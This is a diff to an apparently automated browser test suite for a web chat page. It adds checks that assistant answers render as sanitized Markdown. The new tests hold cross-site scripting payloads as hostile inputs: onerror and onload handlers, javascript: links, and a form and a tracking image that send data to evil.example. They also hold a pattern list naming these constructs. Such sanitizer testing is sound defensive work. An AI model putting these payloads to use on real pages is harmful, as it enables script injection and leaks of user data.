@@ -34,17 +34,19 @@ const waitForOutput = (read: () => string, pattern: RegExp, ms: number) =>
   })
 
 const assistantTexts = (page: Page) => page.locator('[data-role="assistant"] [data-testid="message-text"]')
-const lastAnswerLength = (page: Page) => assistantTexts(page).last().evaluate((el) => (el.textContent ?? "").length)
+// An answer is shown as rendered Markdown; the text the model wrote (sent back as history) is its data-source.
+const answerSource = (page: Page) => assistantTexts(page).last().getAttribute("data-source")
+const lastAnswerLength = async (page: Page) => (await answerSource(page) ?? "").length
 const waitIdle = (page: Page, ms = 60_000) => page.locator('body[data-state="idle"]').waitFor({ state: "attached", timeout: ms })
 
-// Runs in the page (a string: this project's TypeScript has no DOM types): records the last answer's length at
-// every DOM change while the page says it is streaming.
+// Runs in the page (a string: this project's TypeScript has no DOM types): records the length of the text the last
+// answer shows rendered at every DOM change while the page says it is streaming.
 const recordAnswerLengths = `
   window.lengths = []
   new MutationObserver(() => {
     const answers = document.querySelectorAll('[data-role="assistant"] [data-testid="message-text"]')
     const last = answers[answers.length - 1]
-    if (last !== undefined && document.body.dataset.state === "streaming") window.lengths.push(last.textContent.length)
+    if (last !== undefined && document.body.dataset.state === "streaming") window.lengths.push((last.dataset.source ?? "").length)
   }).observe(document.querySelector('[data-testid="messages"]'), { subtree: true, childList: true, characterData: true })
 `
 
@@ -116,8 +118,9 @@ describe("web chat page", () => {
     expect(distinct.size, `lengths seen while streaming: ${lengths.join(",")}`).toBeGreaterThanOrEqual(2)
 
     expect(await page.locator('[data-role="user"] [data-testid="message-text"]').allTextContents()).toEqual(["Hello there, who are you?"])
-    const answer = await assistantTexts(page).last().textContent()
+    const answer = await answerSource(page)
     expect(answer).toMatch(/\S/)
+    expect(await assistantTexts(page).last().textContent()).toMatch(/\S/)
     expect(Math.max(...distinct)).toBe(answer!.length)
     expect(await page.getByTestId("message-usage").last().textContent()).toMatch(/\d+ tokens · [\d.]+ tokens\/s/)
     expect(await page.getByTestId("input").inputValue()).toBe("")
@@ -127,7 +130,7 @@ describe("web chat page", () => {
   })
 
   it("sends the history with the second turn; Shift+Enter adds a newline instead of sending", async () => {
-    const firstAnswer = await assistantTexts(page).last().textContent()
+    const firstAnswer = await answerSource(page)
     const input = page.getByTestId("input")
     await input.fill("")
     await input.type("Tell me more")
@@ -167,7 +170,7 @@ describe("web chat page", () => {
     expect(await page.getByTestId("send").isEnabled()).toBe(true)
 
     // The next turn goes out at once and carries the partial answer as history.
-    const partial = await assistantTexts(page).last().textContent()
+    const partial = await answerSource(page)
     await setSetting(page, "max-tokens", "8")
     await page.getByTestId("input").fill("Thanks.")
     await page.getByTestId("input").press("Enter")
@@ -202,6 +205,63 @@ describe("web chat page", () => {
     await page.unroute("**/v1/chat/completions")
     expect(await page.evaluate(() => localStorage.getItem("chorus.chat.settings"))).toContain("sk-wrong")
     await setSetting(page, "api-key", "")
+  })
+
+  it("renders answers as sanitized Markdown; the user's own text stays plain", async () => {
+    // The model's words are fixed here so the page can be checked against them: the answer arrives as SSE chunks
+    // of 5 characters, the way the server streams it.
+    const answer = "Here is **bold** text.\n\n- first\n- second\n\n```js\nconst lt = 1 < 2\n```\n\n" +
+      "<img src=x onerror=\"window.pwned = 1\"><script>window.pwned = 2</script> [link](javascript:window.pwned=3)"
+    const chunks = answer.match(/[\s\S]{1,5}/g)!
+    const sse = chunks
+      .map((c, i) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: i === 0 ? { role: "assistant", content: c } : { content: c }, finish_reason: null }] })}\n\n`)
+      .join("") + `data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\ndata: [DONE]\n\n`
+    await page.route("**/v1/chat/completions", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body: sse }))
+    const question = "Answer with **Markdown** and <b>HTML</b>, please."
+    await page.getByTestId("input").fill(question)
+    await page.getByTestId("input").press("Enter")
+    await waitIdle(page)
+    await page.unroute("**/v1/chat/completions")
+
+    const last = assistantTexts(page).last()
+    expect(await answerSource(page)).toBe(answer)
+    expect(await last.locator("strong").allTextContents()).toEqual(["bold"])
+    expect(await last.locator("ul > li").allTextContents()).toEqual(["first", "second"])
+    expect(await last.locator("pre > code").textContent()).toBe("const lt = 1 < 2\n")
+    expect(await last.locator("a").count()).toBe(1)
+    expect(await last.locator("a").getAttribute("href")).toBeNull()
+    expect(await page.locator("[onerror], script:not([src]), [data-testid=messages] img").count()).toBe(0)
+    expect(await page.evaluate("window.pwned")).toBeUndefined()
+
+    const user = page.locator('[data-role="user"] [data-testid="message-text"]').last()
+    expect(await user.textContent()).toBe(question)
+    expect(await user.locator("*").count()).toBe(0)
+    expect(sent.at(-1)!.messages.at(-1)).toEqual({ role: "user", content: question })
+  })
+
+  it("the Markdown renderer, run in the page on hostile text, keeps formatting and drops everything active", async () => {
+    const render = (text: string) => page.evaluate<string>(`import("/markdown.js").then((m) => m.renderMarkdown(${JSON.stringify(text)}))`)
+    for (const hostile of [
+      "<img src=x onerror=alert(1)>",
+      "<svg onload=alert(1)><circle r=1 /></svg>",
+      "<iframe src=\"javascript:alert(1)\"></iframe>",
+      "[click](javascript:alert(1))",
+      "<a href=\"javascript:alert(1)\">x</a>",
+      "<div style=\"background:url(javascript:alert(1))\" onclick=\"alert(1)\">x</div>",
+      "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
+      "![tracker](https://evil.example/leak?data=secret)"
+    ]) {
+      const html = await render(hostile)
+      expect(html, hostile).not.toMatch(/onerror|onload|onclick|javascript:|<script|<iframe|<img|<form|<input|<button|style=|evil\.example\/leak/i)
+    }
+    expect(await render("*a* and `b` and ~~c~~")).toBe("<p><em>a</em> and <code>b</code> and <del>c</del></p>\n")
+    const link = await render("[docs](https://example.org/x)")
+    expect(link).toMatch(/^<p><a [^>]*>docs<\/a><\/p>/)
+    for (const attribute of ['href="https://example.org/x"', 'target="_blank"', 'rel="noopener noreferrer nofollow"']) expect(link).toContain(attribute)
+    // while it streams, an unclosed code fence already renders as code
+    expect(await render("```ts\nconst a = 1")).toMatch(/^<pre><code class="language-ts">const a = 1\n?<\/code><\/pre>/)
+    expect((await fetch(`${baseUrl}/vendor/marked.esm.js`)).headers.get("content-type")).toMatch(/^text\/javascript/)
+    expect((await fetch(`${baseUrl}/vendor/purify.es.mjs`)).status).toBe(200)
   })
 
   it("New chat clears the conversation", async () => {
